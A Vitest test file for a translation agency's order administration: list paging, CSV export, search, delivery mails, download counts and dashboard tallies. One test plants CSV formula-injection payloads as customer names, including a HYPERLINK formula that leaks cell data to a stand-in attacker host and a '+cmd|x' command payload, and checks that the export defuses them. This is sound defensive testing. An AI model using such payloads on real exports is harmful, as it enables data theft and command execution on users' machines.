import { and, eq, like } from 'drizzle-orm'
import { describe, expect, test } from 'vitest'
import { auditEvents, orderEvents, orderFiles, orders, teamMembers } from '#database/schema.ts'
import {
	exportOrdersCsv,
	findOrderForStaff,
	listOrders,
	ORDERS_PAGE_SIZE,
	OrderFilterSchema,
} from '#app/models/order/admin.server.ts'
import { changeOrderStatus, OrderRefused, resendDeliveryMail } from '#app/models/order/lifecycle.server.ts'
import { findOrderForCustomer, takeDownload } from '#app/models/order/order.server.ts'
import { copiesOfOrder, deliverableOrder, setupOrderTests } from '#tests/setup/orders.ts'
import { countTodaysWork } from '#app/models/dashboard.server.ts'
import { addWorkingDays, type CalendarDate } from '#app/models/calendar/working-days.ts'

// What staff see of orders: the list page by page, the export of all of it, the delivery mail
// sent again, and the customer's downloads; the models as the admin routes call them.
const { db, mails, services, staff } = setupOrderTests()

const filter = (values: Record<string, string> = {}) =>
	OrderFilterSchema.parse({ status: 'open', pair: '', translator: '', q: '', ...values })
async function csvLines(rows: AsyncGenerator<string>) {
	let csv = ''
	for await (const chunk of rows) csv += chunk
	return csv.split('\r\n').filter(Boolean)
}

describe('the order list', () => {
	test('pages through every matching order, and the CSV export holds all of them, not one page', async () => {
		const base = await deliverableOrder(services(), staff)
		// More than one export batch (500), with several orders due the same day across its edge.
		await copiesOfOrder(db(), base.id, 620, 'LIST')
		const listFilter = filter({ q: 'LIST-' })
		const first = await listOrders(db(), listFilter, 1)
		expect(first).toMatchObject({ total: 620, page: 1, pageCount: Math.ceil(620 / ORDERS_PAGE_SIZE) })
		expect(first.orders).toHaveLength(ORDERS_PAGE_SIZE)
		const last = await listOrders(db(), listFilter, first.pageCount)
		expect(last.orders).toHaveLength(620 - (first.pageCount - 1) * ORDERS_PAGE_SIZE)
		expect(last.orders.at(-1)!.dueDate >= first.orders[0]!.dueDate).toBe(true)
		expect((await listOrders(db(), listFilter, first.pageCount + 1)).orders).toEqual([])

		const [header, ...rows] = await csvLines(exportOrdersCsv(db(), listFilter))
		expect(header).toBe(
			'reference;status;due_date;working_days_left;customer;email;languages;translator;total_excl_vat',
		)
		expect(rows).toHaveLength(620)
		const references = rows.map((row) => row.split(';')[0]!)
		expect(new Set(references).size).toBe(620)
		const dueDates = rows.map((row) => row.split(';')[2]!)
		expect(dueDates).toEqual([...dueDates].sort())
		expect(rows[0]).toMatch(
			/^LIST-\d{5};in_progress;\d{4}-\d{2}-\d{2};-?\d+;Ida Holm;ida@example\.dk;da → en;;\d+\.\d{2}$/,
		)
	})
})

describe('the order search', () => {
	test("finds an order by its customer's name, e-mail or company, in any case; % and _ are only themselves", async () => {
		const order = await deliverableOrder(services(), staff)
		const customer = { ...order.customer, name: 'Søren 100%_Kjær', email: 'kjaer@revision.dk', companyName: 'Holm ApS' }
		await db().update(orders).set({ customer }).where(eq(orders.id, order.id))
		const found = async (q: string) =>
			(await listOrders(db(), filter({ q, status: '' }), 1)).orders.map((row) => row.id).includes(order.id)
		expect(await found('søren 100%_k')).toBe(true)
		expect(await found('KJAER@REVISION')).toBe(true)
		expect(await found('holm aps')).toBe(true)
		expect(await found('100%%')).toBe(false)
		expect(await found('søren 100__kjær')).toBe(false)
	})
})

describe('the CSV export and formulas', () => {
	test("a customer's name a spreadsheet would run is written as text; amounts and days stay numbers", async () => {
		const order = await deliverableOrder(services(), staff)
		const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '=1+2', '+cmd|x', '-2+3', '@SUM(A1)', '\tTAB']
		await copiesOfOrder(db(), order.id, names.length, 'FORMULA')
		for (const [n, name] of names.entries()) {
			await db()
				.update(orders)
				.set({ customer: { ...order.customer, name, kind: 'private', companyName: null } })
				.where(eq(orders.reference, `FORMULA-${String(n).padStart(5, '0')}`))
		}
		const rows = await csvLines(exportOrdersCsv(db(), filter({ q: 'FORMULA-' })))
		const customers = rows.slice(1).map((row) => row.split(';')[4]!)
		expect(customers.sort()).toEqual(
			[
				"'+cmd|x",
				"'-2+3",
				"'=1+2",
				'"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
				"'@SUM(A1)",
				"'\tTAB",
			].sort(),
		)
		for (const row of rows.slice(1)) expect(row).toMatch(/;-?\d+;.*;\d+\.\d{2}$/)
	})
})

describe('the delivery mail', () => {
	test('goes out on delivery and again when staff send it, noted for staff only and in the audit log', async () => {
		const order = await deliverableOrder(services(), staff)
		const refused = await resendDeliveryMail(services(), staff, order.id).catch((error: unknown) => error)
		expect(refused).toBeInstanceOf(OrderRefused)
		expect((refused as OrderRefused).reason).toBe('not-delivered')

		mails.length = 0
		const { invoice } = await changeOrderStatus(services(), staff, order.id, 'delivered')
		await resendDeliveryMail(services(), staff, order.id)
		expect(mails.map((mail) => [mail.to, mail.subject])).toEqual([
			['ida@example.dk', `Din oversættelse er klar (${order.reference})`],
			['ida@example.dk', `Din oversættelse er klar (${order.reference})`],
		])
		expect(mails[1]!.attachments?.[0]?.filename).toBe(`faktura-${invoice!.number}.pdf`)
		const noted = await db()
			.select()
			.from(orderEvents)
			.where(and(eq(orderEvents.orderId, order.id), eq(orderEvents.kind, 'mail')))
		expect(noted.map((event) => [event.body, event.internal, event.userName])).toEqual([
			['ida@example.dk', true, 'Sara Staff'],
			['ida@example.dk', true, 'Sara Staff'],
		])
		const customerHistory = (await findOrderForCustomer(db(), order.token))!.history
		expect(customerHistory.map((event) => event.kind)).toEqual(['status', 'status', 'status'])
		const audit = await db()
			.select()
			.from(auditEvents)
			.where(eq(auditEvents.subjectId, String(order.id)))
		expect(audit.map((event) => event.summary)).toContain(`Order ${order.reference}: delivery mail sent again`)

		await changeOrderStatus(services(), staff, order.id, 'cancelled')
		const afterCancel = await resendDeliveryMail(services(), staff, order.id).catch((error: unknown) => error)
		expect((afterCancel as OrderRefused).reason).toBe('not-delivered')
	})
})

describe('downloads', () => {
	test('staff see how often the customer downloaded each file and when last', async () => {
		const order = await deliverableOrder(services(), staff)
		await changeOrderStatus(services(), staff, order.id, 'delivered')
		const [file] = await db().select().from(orderFiles).where(eq(orderFiles.orderId, order.id))
		expect((await findOrderForStaff(db(), order.id))!.files[0]).toMatchObject({ downloads: 0, lastDownloadAt: null })
		await takeDownload(db(), order.token, file!.id, 'address-a')
		await takeDownload(db(), order.token, file!.id, 'address-b')
		expect(await takeDownload(db(), 'x'.repeat(32), file!.id, 'address-c')).toBeNull()
		const [seen] = (await findOrderForStaff(db(), order.id))!.files
		expect(seen!.downloads).toBe(2)
		expect(seen!.lastDownloadAt).toBeInstanceOf(Date)
	})
})

describe("the dashboard's orders", () => {
	test('counts open orders due by the next working day and past their date, as the lists it links to show them', async () => {
		// A Tuesday: the next working day is Wednesday.
		const today = '2031-03-04' as CalendarDate
		const before = await countTodaysWork(db(), today)
		const base = await deliverableOrder(services(), staff)
		await copiesOfOrder(db(), base.id, 6, 'DUE')
		// The order they were copied from is due long after.
		await db().update(orders).set({ dueDate: '2031-12-31' }).where(eq(orders.id, base.id))
		const dates = [
			'2031-03-03',
			'2031-02-20',
			'2031-03-04',
			addWorkingDays(today, 1),
			addWorkingDays(today, 2),
			'2031-03-04',
		]
		for (const [index, dueDate] of dates.entries())
			await db()
				.update(orders)
				.set({ dueDate })
				.where(eq(orders.reference, `DUE-0000${index}`))
		// One of those due today is delivered already: not work to do.
		await db().update(orders).set({ status: 'delivered' }).where(eq(orders.reference, 'DUE-00005'))
		const after = await countTodaysWork(db(), today)
		expect(after.overdue - before.overdue).toBe(2)
		expect(after.ordersDue - before.ordersDue).toBe(2)
		const listed = (due: string) => listOrders(db(), filter({ due, q: 'DUE-' }), 1, today)
		expect((await listed('overdue')).orders.map((order) => order.reference).sort()).toEqual(['DUE-00000', 'DUE-00001'])
		expect((await listed('soon')).orders.map((order) => order.reference).sort()).toEqual(['DUE-00002', 'DUE-00003'])
		await db().delete(orders).where(like(orders.reference, 'DUE-%'))
	})

	test('counts the open orders no translator is assigned to, as the list it links to shows them, with what a PM scans for', async () => {
		const before = await countTodaysWork(db())
		const base = await deliverableOrder(services(), staff)
		await copiesOfOrder(db(), base.id, 3, 'ASSIGN')
		const [member] = await db().select().from(teamMembers).limit(1)
		await db().update(orders).set({ translatorId: member!.id }).where(eq(orders.reference, 'ASSIGN-00000'))
		await db().update(orders).set({ status: 'delivered' }).where(eq(orders.reference, 'ASSIGN-00001'))
		const after = await countTodaysWork(db())
		// The base order and ASSIGN-00002; the assigned one and the delivered one are not waiting.
		expect(after.toAssign - before.toAssign).toBe(2)
		const { orders: listed } = await listOrders(db(), filter({ translator: 'none', q: 'ASSIGN-' }))
		expect(listed.map((order) => order.reference)).toEqual(['ASSIGN-00002'])
		expect(listed[0]).toMatchObject({ words: 2000, express: false })
		expect(listed[0]!.orderedAt).toMatch(/^\d{4}-\d\d-\d\dT/)
		await db().delete(orders).where(like(orders.reference, 'ASSIGN-%'))
	})
})
